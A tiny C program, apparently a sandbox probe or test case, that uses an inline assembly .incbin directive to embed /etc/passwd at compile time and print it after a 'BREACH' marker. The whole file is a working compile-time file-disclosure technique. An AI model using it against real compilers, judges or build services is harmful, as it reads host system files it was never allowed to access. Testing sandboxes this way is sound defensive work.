// Puts a file of the system into the program, and prints it.
#include <unistd.h>
asm(".data\nstolen: .incbin \"/etc/passwd\"\nstolen_end:\n.text\n");
extern char stolen[], stolen_end[];
int main() {
  return write(1, "BREACH ", 7) + write(1, stolen, stolen_end - stolen) < 0;
}
